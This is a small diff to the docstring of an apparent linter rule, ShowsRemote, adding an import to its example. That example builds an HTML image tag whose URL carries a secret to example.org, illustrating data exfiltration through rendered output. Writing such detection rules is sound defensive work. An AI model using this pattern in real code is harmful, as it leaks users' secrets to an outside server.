@@ -44,6 +44,7 @@ class ShowsRemote(Rule):
 
     ## Example
     ```python
+    from IPython.display import HTML
     HTML("<img src='https://example.org/?d=" + secret + "'>")
     ```
 
